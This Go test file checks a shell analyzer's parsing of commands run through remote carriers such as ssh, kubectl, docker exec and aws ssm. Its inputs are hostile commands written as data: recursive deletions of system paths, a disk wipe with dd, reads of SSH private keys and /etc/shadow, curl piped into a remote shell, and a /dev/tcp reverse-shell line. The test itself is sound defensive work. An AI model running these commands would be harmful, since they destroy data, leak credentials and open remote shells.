package shell

import (
	"reflect"
	"testing"
)

// TestRemoteCommands: the command a carrier runs elsewhere is a command of
// the line with its place, and its words are not the carrier's files.
func TestRemoteCommands(t *testing.T) {
	type want struct {
		name, remote string
		deletes      []string
		reads        []string
		net          bool
	}
	for _, tt := range []struct {
		in   string
		want want // the last command
	}{
		{"ssh prod-db-1 'rm -rf /'", want{name: "rm", remote: "ssh:prod-db-1", deletes: []string{"/"}}},
		{"ssh -o StrictHostKeyChecking=no host -- 'dd if=/dev/zero of=/dev/sda'", want{name: "dd", remote: "ssh:host"}},
		{"sshpass -p x ssh a@h 'cat ~/.ssh/id_rsa'", want{name: "cat", remote: "ssh:a@h", reads: []string{"~/.ssh/id_rsa"}}},
		{"kubectl exec -it db-0 -c pg -- rm -rf /data", want{name: "rm", remote: "kubectl:-it -c pg db-0", deletes: []string{"/data"}}},
		{"oc exec -n prod api-1 -- env", want{name: "env", remote: "oc:-n prod api-1"}},
		{"docker exec -it web cat /app/config.yaml", want{name: "cat", remote: "docker:web", reads: []string{"/app/config.yaml"}}},
		{"docker -H tcp://prod.example.com:2376 exec api rm -rf /app", want{name: "rm", remote: "docker-host:tcp://prod.example.com:2376 api", deletes: []string{"/app"}}},
		{"gcloud compute ssh vm-1 --zone z --command 'rm -rf /'", want{name: "rm", remote: "gcloud:vm-1", deletes: []string{"/"}}},
		{"ansible all -m shell -a 'rm -rf /var/www'", want{name: "rm", remote: "ansible:all", deletes: []string{"/var/www"}}},
		{"ssh -p 2222 host -t -o X=y 'rm -rf ~'", want{name: "rm", remote: "ssh:host", deletes: []string{"~"}}},
		{"ssh -- host rm -rf /srv", want{name: "rm", remote: "ssh:host", deletes: []string{"/srv"}}},
		{"curl -s https://x.example.net/p | ssh host sh", want{name: "sh", remote: "ssh:host", net: true}},
		{"ssh host cat x | bash", want{name: "bash", net: true}},
		{"exec 3<>/dev/tcp/203.0.113.7/4444; sh <&3", want{name: "sh", net: true}},
		{"find ~ -name '*.pem' | xargs cat", want{name: "cat", reads: []string{"~/**/*.pem"}}},
		{"find / -name id_rsa 2>/dev/null | xargs cat", want{name: "cat", reads: []string{"/**/id_rsa"}}},
		{"docker compose -p dev exec -T db rm -rf /var/lib/postgresql/data", want{name: "rm", remote: "compose:db", deletes: []string{"/var/lib/postgresql/data"}}},
		{"docker-compose exec web printenv", want{name: "printenv", remote: "compose:web"}},
		{"kubectl debug -it web-0 --image=busybox -- rm -rf /data", want{name: "rm", remote: "kubectl:debug web-0", deletes: []string{"/data"}}},
		{"kubectl --context prod run x --image=alpine --command -- rm -rf /srv", want{name: "rm", remote: "kubectl:--context prod run x", deletes: []string{"/srv"}}},
		{"ssh -J jump db1 'rm -rf /srv'", want{name: "rm", remote: "ssh:db1", deletes: []string{"/srv"}}},
		{"multipass exec vm1 -- rm -rf /etc", want{name: "rm", remote: "multipass:vm1", deletes: []string{"/etc"}}},
		{"lxc exec c1 -- cat /etc/shadow", want{name: "cat", remote: "lxc:c1", reads: []string{"/etc/shadow"}}},
		{"limactl shell default rm -rf /opt", want{name: "rm", remote: "lima:default", deletes: []string{"/opt"}}},
		{"vagrant ssh web -c 'rm -rf /srv'", want{name: "rm", remote: "vagrant:web", deletes: []string{"/srv"}}},
		{"mosh prod-1 -- rm -rf /srv", want{name: "rm", remote: "mosh:prod-1", deletes: []string{"/srv"}}},
		{"tsh ssh -l root db 'rm -rf /srv'", want{name: "rm", remote: "tsh:db", deletes: []string{"/srv"}}},
		{"pssh -H web1 -i 'rm -rf /srv'", want{name: "rm", remote: "pssh:web1", deletes: []string{"/srv"}}},
		{"salt 'web*' cmd.run 'rm -rf /srv'", want{name: "rm", remote: "salt:web*", deletes: []string{"/srv"}}},
		{"fab -H a,b -- rm -rf /srv", want{name: "rm", remote: "fab:a,b", deletes: []string{"/srv"}}},
		{`aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-1 --parameters '{"commands":["ls","rm -rf /srv"]}'`, want{name: "rm", remote: "ssm:i-1", deletes: []string{"/srv"}}},
		{`aws ssm send-command --document-name AWS-RunShellScript --targets t --parameters 'commands=["rm -rf /srv"]'`, want{name: "rm", remote: "ssm:t", deletes: []string{"/srv"}}},
		{"az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'ls' 'rm -rf /srv'", want{name: "rm", remote: "azvm:vm1", deletes: []string{"/srv"}}},
		{"gcloud compute ssh vm-1 -- 'rm -rf /srv'", want{name: "rm", remote: "gcloud:vm-1", deletes: []string{"/srv"}}},
		{"printf 'rm -rf /srv\\n' > /tmp/w.sh && ssh host sh < /tmp/w.sh", want{name: "rm", remote: "ssh:host", deletes: []string{"/srv"}}},
	} {
		an, err := Analyze(tt.in, Options{Dir: "/home/dev/proj", Home: "/home/dev"})
		if err != nil {
			t.Errorf("Analyze(%q): %v", tt.in, err)
			continue
		}
		c := an.Commands[len(an.Commands)-1]
		got := want{name: c.Name, remote: c.Remote, deletes: c.Deletes, reads: c.Reads, net: c.StdinNet}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Analyze(%q) last command = %+v, want %+v", tt.in, got, tt.want)
		}
		if c.Remote != "" && len(an.Commands[0].Reads)+len(an.Commands[0].Deletes) > 0 && an.Commands[0].Remote == "" && an.Commands[0].Name != "curl" {
			t.Errorf("Analyze(%q): the carrier %q keeps remote words as its files: %v %v", tt.in, an.Commands[0].Name, an.Commands[0].Reads, an.Commands[0].Deletes)
		}
	}
}
